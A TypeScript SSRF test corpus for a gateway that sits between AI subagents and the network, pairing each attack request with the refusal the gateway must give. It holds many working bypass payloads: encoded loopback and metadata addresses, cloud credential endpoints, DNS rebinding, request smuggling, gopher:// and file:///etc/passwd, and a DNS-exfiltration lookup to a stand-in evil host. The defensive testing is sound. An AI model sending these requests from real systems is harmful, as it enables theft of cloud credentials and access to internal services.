/**
 * The SSRF corpus: every request an attacker-controlled subagent might send to reach something it
 * must not, with the answer the gateway must give. Sent in this order by the corpus runner inside
 * a network namespace; checked by ssrf-corpus.test.ts. Set-up (resolver, registrations, traps):
 * ssrf-corpus-setup.ts.
 */
import {
  connect,
  deny,
  fetchVia,
  get,
  ok,
  raw,
  ws,
  type Category,
  type Expect,
  type Send,
  type SsrfCase,
  type Subagent,
} from './ssrf-corpus-setup.js';

export type { SsrfCase } from './ssrf-corpus-setup.js';

const ADDR = deny(403, 'address_prohibited');
const META = deny(403, 'metadata_prohibited');
const HOST = deny(403, 'host_not_allowed', { lookups: 0 });
const BAD = deny(400, 'bad_request', { lookups: 0 });
const INVALID = deny(400, 'host_invalid', { lookups: 0 });
const SCHEME = deny(400, 'scheme_not_allowed', { lookups: 0 });
const MISMATCH = deny(421, 'host_mismatch', { lookups: 0 });

const cases: SsrfCase[] = [];
const counters = new Map<Category, number>();
function c(category: Category, as: Subagent, name: string, send: Send, expect: Expect): void {
  const n = (counters.get(category) ?? 0) + 1;
  counters.set(category, n);
  cases.push({ id: `${category}-${String(n).padStart(3, '0')}`, category, name, as, send, expect });
}

// ---- IPv4 spellings (listed literals still go through the address classes) ----------------------
for (const [spelling, meaning] of [
  ['127.0.0.9', 'dotted'],
  ['2130706441', 'decimal'],
  ['0x7f000009', 'hex'],
  ['0X7F000009', 'upper-case hex'],
  ['0177.0.0.9', 'octal first part'],
  ['0177.0000.0000.0011', 'all-octal'],
  ['0x7f.0.0.9', 'hex first part'],
  ['0x7f.0x0.0x0.0x9', 'all-hex parts'],
  ['127.9', 'two-part short form'],
  ['127.0.9', 'three-part short form'],
  ['0177.9', 'octal short form'],
  ['017700000011', 'single octal number'],
  ['127.0.0.9.', 'trailing dot'],
] as const) {
  c(
    'ipv4-encoding',
    'lit',
    `refuses ${meaning} ${spelling} as loopback 127.0.0.9`,
    get(`http://${spelling}/`),
    ADDR,
  );
}
for (const [spelling, meaning] of [
  ['2852039166', 'decimal'],
  ['0xa9fea9fe', 'hex'],
  ['0251.0376.0251.0376', 'octal'],
  ['169.254.43518', 'three-part short form'],
  ['169.16689662', 'two-part short form'],
  ['0xa9.0xfe.0xa9.0xfe', 'hex parts'],
  ['0251.0xfe.43518', 'mixed octal/hex/short'],
  ['169.254.169.254.', 'trailing dot'],
] as const) {
  c(
    'ipv4-encoding',
    'lit',
    `refuses ${meaning} ${spelling} as metadata 169.254.169.254`,
    get(`http://${spelling}/`),
    META,
  );
}
for (const [spelling, meaning] of [
  ['0', 'bare zero (0.0.0.0)'],
  ['0x0', 'hex zero'],
  ['167772161', 'decimal 10.0.0.1'],
  ['012.0.0.1', 'octal 10.0.0.1'],
  ['3232235521', 'decimal 192.168.0.1'],
  ['0xc0a80001', 'hex 192.168.0.1'],
  ['0xac100001', 'hex 172.16.0.1'],
  ['100.64.1', 'short CGNAT 100.64.0.1'],
  ['0x7f000001', "hex 127.0.0.1 (the gateway's own address)"],
] as const) {
  c('ipv4-encoding', 'lit', `refuses ${meaning}`, get(`http://${spelling}/`), ADDR);
}
for (const spelling of ['127.0.0.256', '4294967296', '0x100000000', '1.2.3.4.5', '08.0.0.1']) {
  c(
    'ipv4-encoding',
    'lit',
    `refuses out-of-range or invalid number ${spelling} with 400`,
    get(`http://${spelling}/`),
    INVALID,
  );
}
c(
  'ipv4-encoding',
  'narrow',
  'refuses an unlisted decimal literal before any address check',
  get('http://2130706441/'),
  HOST,
);
c(
  'ipv4-encoding',
  'narrow',
  'refuses an unlisted hex metadata literal (CONNECT)',
  connect('0xa9fea9fe:80'),
  HOST,
);

// ---- IPv6 forms -----------------------------------------------------------------------------------
for (const [spelling, meaning] of [
  ['[::1]', 'loopback'],
  ['[0:0:0:0:0:0:0:1]', 'loopback, uncompressed'],
  ['[0000::0001]', 'loopback, zero-padded'],
  ['[::0:1]', 'loopback, partly compressed'],
  ['[::]', 'unspecified'],
  ['[fe80::1]', 'link-local'],
  ['[FE80::1]', 'link-local, upper case'],
  ['[fc00::1]', 'unique local fc00::/8'],
  ['[fd12::1]', 'unique local fd00::/8'],
  ['[ff02::1]', 'multicast'],
  ['[2001:db8::1]', 'documentation'],
  ['[100::1]', 'discard-only'],
  ['[fec0::1]', 'deprecated site-local'],
] as const) {
  c('ipv6', 'lit', `refuses ${meaning} ${spelling}`, get(`http://${spelling}/`), ADDR);
}
c('ipv6', 'lit', 'refuses CONNECT to [::1]', connect('[::1]:443'), ADDR);
c('ipv6', 'lit', 'refuses a WebSocket to [::1]', ws('ws://[::1]/'), ADDR);
c('ipv6', 'lit', 'refuses a zone id [fe80::1%25lo] with 400', get('http://[fe80::1%25lo]/'), BAD);
c('ipv6', 'lit', 'refuses a CONNECT zone id with 400', connect('[fe80::1%25eth0]:80'), BAD);
c('ipv6', 'lit', 'refuses an unclosed bracket with 400', connect('[::1:80'), BAD);
c('ipv6', 'lit', 'refuses an unbracketed IPv6 CONNECT authority with 400', connect('::1:80'), BAD);
c('ipv6', 'lit', 'refuses an IPvFuture literal with 400', get('http://[v1.fe80::1]/'), INVALID);
c('ipv6', 'narrow', 'refuses an unlisted [::1] before the address check', connect('[::1]:80'), HOST);

// ---- IPv4 embedded in IPv6 -----------------------------------------------------------------------
for (const [spelling, meaning, expect] of [
  ['[::ffff:127.0.0.9]', 'IPv4-mapped dotted', ADDR],
  ['[::ffff:7f00:9]', 'IPv4-mapped hex', ADDR],
  ['[0:0:0:0:0:ffff:127.0.0.9]', 'IPv4-mapped uncompressed', ADDR],
  ['[::ffff:169.254.169.254]', 'IPv4-mapped metadata', META],
  ['[::ffff:a9fe:a9fe]', 'IPv4-mapped metadata hex', META],
  ['[::127.0.0.9]', 'IPv4-compatible loopback', ADDR],
  ['[::a9fe:a9fe]', 'IPv4-compatible metadata', META],
  ['[::ffff:0:7f00:9]', 'IPv4-translated loopback', ADDR],
  ['[64:ff9b::127.0.0.9]', 'NAT64 64:ff9b::/96 loopback', ADDR],
  ['[64:ff9b::a9fe:a9fe]', 'NAT64 64:ff9b::/96 metadata', META],
  ['[64:ff9b:1::a9fe:a9fe]', 'local-use NAT64 64:ff9b:1::/48 metadata', META],
  ['[64:ff9b:1:7f00:0:900::]', 'local-use NAT64 /48 embedding of loopback', ADDR],
  ['[2002:7f00:9::]', '6to4 of loopback', ADDR],
  ['[2002:a9fe:a9fe::1]', '6to4 of metadata', META],
  ['[2001:0:4136:e378:8000:63bf:80ff:fff6]', 'Teredo with client 127.0.0.9', ADDR],
  ['[2001:0:4136:e378:8000:63bf:5601:5601]', 'Teredo with client 169.254.169.254', META],
  ['[2001:0:4136:e378:8000:63bf:3fff:fdd2]', 'Teredo with a public client (still not public)', ADDR],
] as const) {
  c('ipv4-in-ipv6', 'lit', `refuses ${meaning} ${spelling}`, get(`http://${spelling}/`), expect);
}
c(
  'ipv4-in-ipv6',
  'lit',
  'refuses CONNECT to IPv4-mapped metadata',
  connect('[::ffff:169.254.169.254]:443'),
  META,
);
for (const [name, expect] of [
  ['mapped.allowed.test', ADDR],
  ['mapped-meta.allowed.test', META],
  ['nat64-meta.allowed.test', META],
  ['sixtofour.allowed.test', ADDR],
  ['teredo-meta.allowed.test', META],
] as const) {
  c(
    'ipv4-in-ipv6',
    'std',
    `refuses ${name}, which resolves to an embedding of a prohibited IPv4`,
    get(`http://${name}/`),
    {
      ...expect,
      lookups: 1,
    },
  );
}

// ---- Cloud metadata endpoints ----------------------------------------------------------------------
const GCP = 'Metadata-Flavor: Google\r\n';
for (const [cloud, target, extra] of [
  ['AWS IMDSv1 credentials', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/', ''],
  [
    'AWS IMDSv2 token',
    'http://169.254.169.254/latest/api/token',
    'X-aws-ec2-metadata-token-ttl-seconds: 21600\r\n',
  ],
  ['AWS IMDS over IPv6', 'http://[fd00:ec2::254]/latest/meta-data/', ''],
  ['AWS fd00:ec2::/32 range', 'http://[fd00:ec2::1]/', ''],
  ['AWS ECS task credentials', 'http://169.254.170.2/v2/credentials/', ''],
  ['AWS EKS Pod Identity', 'http://169.254.170.23/v1/credentials', ''],
  ['AWS time sync', 'http://169.254.169.123/', ''],
  ['AWS VPC DNS', 'http://169.254.169.253/', ''],
  ['GCP metadata', 'http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token', GCP],
  ['GCP metadata over IPv6', 'http://[fd20:ce::254]/computeMetadata/v1/', GCP],
  ['Azure IMDS', 'http://169.254.169.254/metadata/instance?api-version=2021-02-01', 'Metadata: true\r\n'],
  ['Azure WireServer', 'http://168.63.129.16/machine?comp=goalstate', ''],
  ['Alibaba Cloud', 'http://100.100.100.200/latest/meta-data/', ''],
  ['Oracle Cloud v2', 'http://169.254.169.254/opc/v2/instance/', 'Authorization: Bearer Oracle\r\n'],
  ['Oracle Cloud legacy', 'http://192.0.0.192/latest/', ''],
  ['DigitalOcean', 'http://169.254.169.254/metadata/v1.json', ''],
  ['Tencent Cloud', 'http://169.254.0.23/latest/meta-data/', ''],
  ['OpenStack', 'http://169.254.169.254/openstack/latest/meta_data.json', ''],
  ['OpenStack over IPv6', 'http://[fe80::a9fe:a9fe]/openstack/', ''],
  ['Scaleway', 'http://169.254.42.42/conf', ''],
  ['Hetzner', 'http://169.254.169.254/hetzner/v1/metadata', ''],
  ['IBM Cloud', 'http://169.254.169.254/instance_identity/v1/token', ''],
] as const) {
  c(
    'metadata',
    'lit',
    `refuses ${cloud} (${target.split('/')[2] ?? ''}) as a listed literal`,
    get(target, extra),
    META,
  );
}
for (const authority of [
  '169.254.169.254:443',
  '[fd00:ec2::254]:443',
  '100.100.100.200:443',
  '168.63.129.16:443',
  '169.254.170.2:443',
]) {
  c('metadata', 'lit', `refuses CONNECT to ${authority}`, connect(authority), META);
}
c('metadata', 'lit', 'refuses a WebSocket to 169.254.169.254', ws('ws://169.254.169.254/'), META);
for (const name of [
  'metadata.google.internal',
  'metadata',
  'instance-data.ec2.internal',
  'metadata.tencentyun.com',
  'api.metadata.cloud.ibm.com',
  'metadata.platformequinix.com',
  'alibaba-meta.allowed.test',
  'azure-wire.allowed.test',
  'oracle-meta.allowed.test',
  'ecs-meta.allowed.test',
  'eks-meta.allowed.test',
  'imds6.allowed.test',
  'gcp6.allowed.test',
  'openstack6.allowed.test',
  'scaleway-meta.allowed.test',
]) {
  c(
    'metadata',
    'std',
    `refuses the allowed name ${name} after it resolves to a metadata address`,
    get(`http://${name}/`),
    {
      ...META,
      lookups: 1,
    },
  );
}
c(
  'metadata',
  'std',
  'refuses CONNECT to metadata.google.internal:443 after DNS',
  connect('metadata.google.internal:443'),
  {
    ...META,
    lookups: 1,
  },
);
for (const name of [
  'metadata.google.internal',
  'metadata',
  'instance-data.ec2.internal',
  'metadata.azure.com',
]) {
  c(
    'metadata',
    'narrow',
    `refuses the unlisted name ${name} without looking it up`,
    get(`http://${name}/`),
    HOST,
  );
}
for (const target of [
  'http://169.254.169.254/',
  'http://169.254.170.2/',
  'http://100.100.100.200/',
  'http://168.63.129.16/',
  'http://192.0.0.192/',
  'http://[fd00:ec2::254]/',
  'http://[fe80::a9fe:a9fe]/',
  'http://alibaba-meta.allowed.test/',
]) {
  c('metadata', 'cidr', `refuses ${target} even with its whole range in allowed_cidrs`, get(target), META);
}

// ---- DNS: rebinding, mixed and malformed answers ---------------------------------------------------
c(
  'dns',
  'std',
  'rebinding: first lookup (the origin) is allowed and exactly that address is dialled',
  get('http://rebind.allowed.test/echo'),
  ok(200, { lookups: 1 }),
);
c(
  'dns',
  'std',
  'rebinding: the next lookup (now the trap) is refused',
  get('http://rebind.allowed.test/echo'),
  { ...ADDR, lookups: 1 },
);
c(
  'dns',
  'std',
  'rebinding to metadata: first lookup allowed (CONNECT)',
  connect('rebind-meta.allowed.test:80'),
  ok(200, { lookups: 1 }),
);
c(
  'dns',
  'std',
  'rebinding to metadata: the next lookup is refused (CONNECT)',
  connect('rebind-meta.allowed.test:80'),
  { ...META, lookups: 1 },
);
for (const [name, expect, what] of [
  ['trap.allowed.test', ADDR, 'a name resolving to the loopback trap'],
  ['trap6.allowed.test', ADDR, 'a name resolving to ::1'],
  ['gw.allowed.test', ADDR, "a name resolving to the gateway's own address"],
  ['localhost', ADDR, 'localhost (127.0.0.1 and ::1)'],
  ['internal.allowed.test', ADDR, 'a name resolving to 10.0.0.1'],
  ['k8s.allowed.test', ADDR, 'a name resolving to a cluster service IP'],
  ['cgnat.allowed.test', ADDR, 'a name resolving to CGNAT space'],
  ['home.allowed.test', ADDR, 'a name resolving to 192.168.0.1'],
  ['docker.allowed.test', ADDR, 'a name resolving to 172.16.0.1'],
  ['ula.allowed.test', ADDR, 'a name resolving to a unique local IPv6'],
  ['zero.allowed.test', ADDR, 'a name resolving to 0.0.0.0'],
  ['mixed-trap.allowed.test', ADDR, 'mixed answers [origin, trap]'],
  ['mixed-trap-first.allowed.test', ADDR, 'mixed answers [trap, origin]'],
  ['mixed-meta.allowed.test', META, 'mixed answers [origin, metadata]'],
  ['mixed-v6.allowed.test', ADDR, 'mixed answers [origin, ::1]'],
  ['mixed-mapped.allowed.test', ADDR, 'mixed answers [origin, ::ffff:127.0.0.9]'],
  ['mixed-private.allowed.test', ADDR, 'mixed answers [origin, 10.0.0.1]'],
  ['mixed-public.allowed.test', ADDR, 'mixed answers [public, trap]'],
  ['mixed-gw.allowed.test', ADDR, 'mixed answers [origin, gateway address]'],
  ['mixed-zero.allowed.test', ADDR, 'mixed answers [origin, 0.0.0.0]'],
  ['zone.allowed.test', deny(502, 'dns_error'), 'an answer with a zone id (502 dns_error)'],
  ['empty.allowed.test', deny(502, 'dns_error'), 'an empty answer (502 dns_error)'],
  ['many.allowed.test', deny(502, 'dns_error'), 'an answer with 65 addresses (502 dns_error)'],
  ['notip.allowed.test', deny(502, 'dns_error'), 'an answer that is not an IP (502 dns_error)'],
  ['fail.allowed.test', deny(502, 'dns_error'), 'a failing lookup (502 dns_error)'],
  ['hang.allowed.test', deny(504, 'dns_timeout'), 'a lookup that never answers (504 dns_timeout)'],
] as const) {
  c('dns', 'std', `refuses ${what}`, get(`http://${name}/`), { ...expect, lookups: 1 });
}
c('dns', 'std', 'refuses CONNECT to mixed answers [origin, trap]', connect('mixed-trap.allowed.test:80'), {
  ...ADDR,
  lookups: 1,
});
c(
  'dns',
  'std',
  'refuses a WebSocket to mixed answers [origin, metadata]',
  ws('ws://mixed-meta.allowed.test/'),
  { ...META, lookups: 1 },
);
c(
  'dns',
  'std',
  'never looks up a name outside the allowlist (no DNS exfiltration)',
  connect('c2VjcmV0.exfil.evil.test:443'),
  HOST,
);

// ---- Redirects: passed through, never followed by the gateway ---------------------------------------
for (const [code, to] of [
  [302, 'http://169.254.169.254/latest/meta-data/'],
  [301, 'http://127.0.0.9/'],
  [307, 'http://[::1]/'],
  [308, 'http://0x7f000009/'],
  [302, '//169.254.169.254/'],
  [303, 'http://metadata.google.internal/'],
] as const) {
  c(
    'redirect',
    'std',
    `passes a ${code} to ${to} through without following it`,
    get(`http://api.allowed.test/redirect?code=${code}&to=${encodeURIComponent(to)}`),
    ok(code),
  );
}
c(
  'redirect',
  'std',
  'undici (manual redirects) receives the 302 untouched',
  fetchVia(
    `http://api.allowed.test/redirect?code=302&to=${encodeURIComponent('http://169.254.169.254/')}`,
    false,
  ),
  ok(302),
);
c(
  'redirect',
  'std',
  'a client that follows the redirect makes a new request, which is refused (absolute-form)',
  fetchVia(
    `http://api.allowed.test/redirect?code=302&to=${encodeURIComponent('http://169.254.169.254/')}`,
    false,
    'follow',
  ),
  { ...deny(403, 'host_not_allowed'), decisions: 2 },
);
c(
  'redirect',
  'std',
  'a client that follows the redirect through CONNECT is refused too',
  fetchVia(
    `http://api.allowed.test/redirect?code=302&to=${encodeURIComponent('http://trap.allowed.test/')}`,
    true,
    'follow',
  ),
  { ...ADDR, decisions: 2 },
);

// ---- Userinfo and authority tricks ---------------------------------------------------------------
for (const [target, what] of [
  ['http://api.allowed.test@127.0.0.9/', 'allowed name as userinfo before the trap'],
  ['http://api.allowed.test:80@127.0.0.9/', 'allowed name and port as userinfo'],
  ['http://user:pass@api.allowed.test/', 'userinfo before an allowed name'],
  ['http://127.0.0.9#@api.allowed.test/', 'fragment before @'],
  ['http://api.allowed.test\\@127.0.0.9/', 'backslash before @'],
  ['http://127.0.0.9\\@api.allowed.test/', 'backslash after the trap'],
  ['http:\\\\127.0.0.9\\', 'backslashes instead of slashes'],
  ['http:/api.allowed.test/', 'a single slash'],
  ['http://%61pi.allowed.test/', 'a percent-encoded host'],
  ['http://api.allowed.test%2f@127.0.0.9/', 'an encoded slash before @'],
  ['http://api.allowed.test%00.evil.test/', 'an encoded NUL in the host'],
] as const) {
  c('userinfo', 'std', `refuses ${what}: ${target}`, get(target), BAD);
}
c(
  'userinfo',
  'std',
  'reads http://127.0.0.9?@api.allowed.test/ as host 127.0.0.9 (like WHATWG) and refuses it',
  get('http://127.0.0.9?@api.allowed.test/'),
  HOST,
);
c(
  'userinfo',
  'std',
  'refuses userinfo in a CONNECT authority',
  connect('api.allowed.test@127.0.0.9:80'),
  BAD,
);
c('userinfo', 'std', 'refuses userinfo in a WebSocket target', ws('ws://api.allowed.test@127.0.0.9/'), BAD);

// ---- Header smuggling ------------------------------------------------------------------------------
const T = 'http://api.allowed.test/echo';
for (const [extra, expect, what] of [
  ['Host: api.allowed.test\r\nHost: 127.0.0.9\r\n', BAD, 'two Host headers'],
  ['Host: 127.0.0.9\r\n', MISMATCH, 'a Host header naming the trap'],
  ['Host: evil.test\r\n', MISMATCH, 'a Host header naming another host'],
  ['Host: api.allowed.test:8080\r\n', MISMATCH, 'a Host header with another port'],
  ['Host: http://127.0.0.9/\r\n', MISMATCH, 'a Host header holding a URL'],
  ['Host: api.allowed.test@127.0.0.9\r\n', MISMATCH, 'a Host header with userinfo'],
  ['Content-Length: 5\r\nTransfer-Encoding: chunked\r\n', BAD, 'Content-Length with Transfer-Encoding'],
  ['Transfer-Encoding: chunked, identity\r\n', BAD, 'Transfer-Encoding: chunked, identity'],
  ['Transfer-Encoding: xchunked\r\n', BAD, 'Transfer-Encoding: xchunked'],
  ['Transfer-Encoding : chunked\r\n', BAD, 'a space before the header colon'],
  ['Content-Length: 1\r\nContent-Length: 2\r\n', BAD, 'two different Content-Length headers'],
  ['X-A: b\r\n c\r\n', BAD, 'an obs-fold continuation line'],
  ['X-A: b\0c\r\n', BAD, 'a NUL in a header value'],
] as const) {
  c('smuggling', 'std', `refuses ${what}`, get(T, extra), expect);
}
c(
  'smuggling',
  'std',
  'refuses a request whose only credential is spelt Proxy_Authorization',
  raw(`GET ${T} HTTP/1.1\r\nProxy_Authorization: {AUTH}\r\n\r\n`),
  deny(407, 'auth_required'),
);
c(
  'smuggling',
  'std',
  'refuses two Proxy-Authorization headers',
  get(T, 'Proxy-Authorization: Basic Zm9vOmJhcg==\r\n'),
  deny(407, 'auth_invalid'),
);
c(
  'smuggling',
  'std',
  'accepts an upper-case PROXY-AUTHORIZATION and strips it before the origin',
  raw(`GET ${T} HTTP/1.1\r\nPROXY-AUTHORIZATION: {AUTH}\r\n\r\n`),
  ok(200, { originMustNotSee: ['proxy-authorization'] }),
);
c(
  'smuggling',
  'std',
  'strips Proxy_Authorization / Proxy.Authorization variants before the origin',
  get(T, 'Proxy_Authorization: {AUTH}\r\nProxy.Authorization: x\r\nX-Proxy: y\r\n'),
  ok(200, { originMustNotSee: ['proxy-authorization', 'proxy_authorization', 'proxy.authorization'] }),
);
c(
  'smuggling',
  'std',
  'strips headers named in Connection',
  get(T, 'Connection: keep-alive, X-Secret\r\nX-Secret: 1\r\n'),
  ok(200, { originMustNotSee: ['x-secret'] }),
);
c(
  'smuggling',
  'std',
  'never parses a request smuggled in the body of a refused one',
  raw(
    `GET http://evil.test/ HTTP/1.1\r\n{A}Content-Length: {CL}\r\n\r\nGET http://127.0.0.9/ HTTP/1.1\r\n{A}\r\n`,
  ),
  HOST,
);
c(
  'smuggling',
  'std',
  'decides every pipelined request on its own (allowed, then the trap)',
  raw(`GET ${T} HTTP/1.1\r\n{A}\r\nGET http://trap.allowed.test/ HTTP/1.1\r\n{A}\r\n`, 2),
  { ...ADDR, decisions: 2, lookups: 2 },
);
c('smuggling', 'std', 'refuses bare LF line endings', raw(`GET ${T} HTTP/1.1\n{A}\n`), BAD);
c(
  'smuggling',
  'std',
  'refuses a CR inside the request line',
  raw(`GET http://api.allowed.test/\rGET http://127.0.0.9/ HTTP/1.1\r\n{A}\r\n`),
  BAD,
);

// ---- The same target as absolute-form, CONNECT and WebSocket ---------------------------------------
for (const [as, host, expect] of [
  ['lit', '169.254.169.254', META],
  ['lit', '127.0.0.9', ADDR],
  ['lit', '[::1]', ADDR],
  ['lit', '10.0.0.1', ADDR],
  ['std', 'trap.allowed.test', { ...ADDR, lookups: 1 }],
  ['std', 'evil.test', HOST],
  ['none', 'api.allowed.test', deny(403, 'no_network', { lookups: 0 })],
] as const) {
  c('forms', as, `absolute-form GET to ${host}`, get(`http://${host}/`), expect);
  c('forms', as, `CONNECT to ${host}:80`, connect(`${host}:80`), expect);
  c('forms', as, `WebSocket upgrade to ws://${host}/`, ws(`ws://${host}/`), expect);
}
c(
  'forms',
  'std',
  'undici tunnel to a name resolving to the trap',
  fetchVia('http://trap.allowed.test/', true),
  { ...ADDR, lookups: 1 },
);
c(
  'forms',
  'std',
  'undici absolute-form to a name resolving to the trap',
  fetchVia('http://trap.allowed.test/', false),
  { ...ADDR, lookups: 1 },
);
c(
  'forms',
  'lit',
  'undici tunnel to hex metadata (normalised by the client)',
  fetchVia('http://0xa9fea9fe/', true),
  META,
);
c(
  'forms',
  'std',
  'refuses absolute-form https:// (TLS must use CONNECT)',
  get('https://api.allowed.test/'),
  SCHEME,
);
c('forms', 'std', 'refuses wss:// in absolute form', ws('wss://api.allowed.test/'), SCHEME);
c('forms', 'std', 'refuses ftp://', get('ftp://api.allowed.test/'), SCHEME);
c(
  'forms',
  'std',
  'refuses gopher:// (classic SSRF protocol smuggling)',
  get('gopher://127.0.0.9:6379/_INFO'),
  SCHEME,
);
c('forms', 'std', 'refuses file://', get('file:///etc/passwd'), SCHEME);
c(
  'forms',
  'std',
  'refuses an upgrade to something other than websocket',
  get(T, 'Upgrade: h2c\r\nConnection: Upgrade\r\n'),
  deny(400, 'bad_request'),
);
c(
  'forms',
  'std',
  'refuses origin-form requests (not a proxy request)',
  raw('GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n{A}\r\n'),
  BAD,
);

// ---- Ports -------------------------------------------------------------------------------------------
for (const port of [22, 25, 3389, 5432, 6379]) {
  c(
    'ports',
    'std',
    `refuses CONNECT to blocked port ${port}`,
    connect(`api.allowed.test:${port}`),
    deny(403, 'port_blocked', { lookups: 0 }),
  );
}
c(
  'ports',
  'std',
  'refuses a blocked port in absolute form',
  get('http://api.allowed.test:22/'),
  deny(403, 'port_blocked', { lookups: 0 }),
);
for (const port of [8081, 1, 65535]) {
  c(
    'ports',
    'std',
    `refuses port ${port}, which is not allowed`,
    connect(`api.allowed.test:${port}`),
    deny(403, 'port_not_allowed', { lookups: 0 }),
  );
}
for (const [authority, what] of [
  ['api.allowed.test:0', 'port 0'],
  ['api.allowed.test:65536', 'port 65536'],
  ['api.allowed.test:99999999', 'a huge port'],
  ['api.allowed.test', 'a missing port'],
  ['api.allowed.test:', 'an empty port'],
  ['api.allowed.test:+80', 'a signed port'],
  ['api.allowed.test:0x50', 'a hex port'],
  ['api.allowed.test:80:80', 'two ports'],
] as const) {
  c('ports', 'std', `refuses CONNECT with ${what}`, connect(authority), BAD);
}
c('ports', 'std', 'refuses absolute-form port 65536', get('http://api.allowed.test:65536/'), BAD);
c('ports', 'std', 'treats a zero-padded port 080 as 80', get('http://api.allowed.test:080/echo'), ok(200));

// ---- IDN, case and trailing dots ---------------------------------------------------------------------
c(
  'idn',
  'std',
  'allows the punycode form of an IDN rule',
  get('http://xn--bcher-kva.allowed.test/echo'),
  ok(200),
);
c(
  'idn',
  'std',
  'allows the punycode form in upper case',
  get('http://XN--BCHER-KVA.ALLOWED.TEST/echo'),
  ok(200),
);
c(
  'idn',
  'std',
  'allows the Unicode form sent by a WHATWG client (punycoded)',
  fetchVia('http://bücher.allowed.test/echo', false),
  ok(200),
);
c(
  'idn',
  'std',
  'allows fullwidth dots normalised by a WHATWG client',
  fetchVia('http://api\u3002allowed\u3002test/echo', false),
  ok(200),
);
c('idn', 'std', 'refuses raw UTF-8 in the request line with 400', get('http://bücher.allowed.test/'), BAD);
c(
  'idn',
  'narrow',
  'refuses a Cyrillic homograph of an allowed name',
  fetchVia('http://\u0430pi.allowed.test/', false),
  HOST,
);
c(
  'idn',
  'narrow',
  'refuses a homograph through CONNECT',
  fetchVia('http://\u0430pi.allowed.test/', true),
  HOST,
);
c('idn', 'std', 'allows a trailing dot', get('http://api.allowed.test./echo'), ok(200));
c('idn', 'std', 'allows mixed case', get('http://API.Allowed.TEST/echo'), ok(200));
c('idn', 'std', 'refuses two trailing dots with 400', get('http://api.allowed.test../'), INVALID);
c('idn', 'std', 'refuses an empty label with 400', get('http://api..allowed.test/'), INVALID);
c('idn', 'std', 'refuses the bare domain of a wildcard rule', get('http://allowed.test/'), HOST);
c('idn', 'std', 'refuses an allowed suffix without a dot boundary', get('http://evilallowed.test/'), HOST);
c('idn', 'std', 'refuses an allowed name used as a prefix', get('http://api.allowed.test.evil.test/'), HOST);
c(
  'idn',
  'std',
  'refuses a label longer than 63 characters with 400',
  get(`http://${'a'.repeat(64)}.allowed.test/`),
  INVALID,
);
c(
  'idn',
  'std',
  'refuses an underscore-free but forbidden code point with 400',
  get('http://api.allowed.test<x/'),
  BAD,
);

// ---- Malformed request lines ---------------------------------------------------------------------------
for (const [data, what] of [
  ['GET http://api.allowed.test/ HTTP/1.2\r\n{A}\r\n', 'HTTP/1.2'],
  ['GET http://api.allowed.test/ HTTP/2.0\r\n{A}\r\n', 'HTTP/2.0'],
  ['GET http://api.allowed.test/\r\n{A}\r\n', 'an HTTP/0.9 request line'],
  ['get http://api.allowed.test/ HTTP/1.1\r\n{A}\r\n', 'a lower-case method'],
  ['FOO http://api.allowed.test/ HTTP/1.1\r\n{A}\r\n', 'an unknown method'],
  ['GET\thttp://api.allowed.test/ HTTP/1.1\r\n{A}\r\n', 'a tab separator'],
  ['\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03\r\n\r\n', 'a TLS ClientHello'],
  ['CONNECT http://api.allowed.test:80 HTTP/1.1\r\n{A}\r\n', 'CONNECT with a URL'],
  ['CONNECT api.allowed.test:80/x HTTP/1.1\r\n{A}\r\n', 'CONNECT with a path'],
  ['OPTIONS * HTTP/1.1\r\n{A}\r\n', 'an asterisk-form target'],
  [
    `GET http://api.allowed.test/${'a'.repeat(20_000)} HTTP/1.1\r\n{A}\r\n`,
    'a target larger than the header limit',
  ],
  [
    `GET http://api.allowed.test/ HTTP/1.1\r\n{A}X-Big: ${'b'.repeat(20_000)}\r\n\r\n`,
    'a header section larger than the limit',
  ],
  ['GET http://api.allowed.test/\0 HTTP/1.1\r\n{A}\r\n', 'a NUL in the target'],
  ['GET http://api.allowed.test/ HTTP/1.1\r\n{A}Bad Header: x\r\n\r\n', 'a space inside a header name'],
] as const) {
  c('malformed', 'std', `refuses ${what} with 400`, raw(data), BAD);
}

c(
  'malformed',
  'std',
  "tolerates a double space in the request line (node's parser) and rebuilds the line it forwards",
  raw('GET  http://api.allowed.test/echo HTTP/1.1\r\n{A}\r\n'),
  ok(200),
);

// ---- Authentication ----------------------------------------------------------------------------------
c(
  'auth',
  'std',
  'refuses a request without a credential',
  raw(`GET ${T} HTTP/1.1\r\n\r\n`),
  deny(407, 'auth_required'),
);
c(
  'auth',
  'std',
  'refuses a wrong password',
  raw(
    `GET ${T} HTTP/1.1\r\nProxy-Authorization: Basic c3RkOnh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4\r\n\r\n`,
  ),
  deny(407, 'auth_invalid'),
);
c(
  'auth',
  'std',
  'refuses a Bearer token',
  raw(`GET ${T} HTTP/1.1\r\nProxy-Authorization: Bearer abc\r\n\r\n`),
  deny(407, 'auth_invalid'),
);
c('auth', 'revoked', 'refuses a revoked credential', get(T), deny(407, 'auth_invalid'));
c(
  'auth',
  'narrow',
  "applies the credential's own policy, not another subagent's",
  get('http://www.wild.allowed.test/'),
  HOST,
);

// ---- Allowed (the gateway is not just refusing everything) -------------------------------------------
c('allowed', 'std', 'allows an absolute-form GET to the allowed origin', get(T), ok(200, { lookups: 1 }));
c(
  'allowed',
  'std',
  'allows CONNECT to the allowed origin',
  connect('api.allowed.test:80', 'Host: api.allowed.test:80\r\n'),
  ok(200),
);
c(
  'allowed',
  'std',
  'allows a WebSocket upgrade to the allowed origin',
  ws('ws://api.allowed.test/ws'),
  ok(101),
);
c('allowed', 'std', 'allows a wildcard subdomain', get('http://www.wild.allowed.test/echo'), ok(200));
c(
  'allowed',
  'std',
  'allows a private origin reached through an allowed_cidrs exception',
  get('http://cidr-origin.allowed.test/echo'),
  ok(200),
);
c(
  'allowed',
  'std',
  'allows an IPv4-mapped answer inside an allowed CIDR',
  get('http://mapped-origin.allowed.test/echo'),
  ok(200),
);
c(
  'allowed',
  'lit',
  'allows a listed literal inside an allowed CIDR',
  get('http://127.0.0.2/echo'),
  ok(200, { lookups: 0 }),
);
c('allowed', 'std', 'allows HTTP/1.0', raw(`GET ${T} HTTP/1.0\r\n{A}\r\n`), ok(200));
c('allowed', 'std', 'allows undici through a CONNECT tunnel', fetchVia(T, true), ok(200));
c('allowed', 'std', 'allows undici in absolute form', fetchVia(T, false), ok(200));
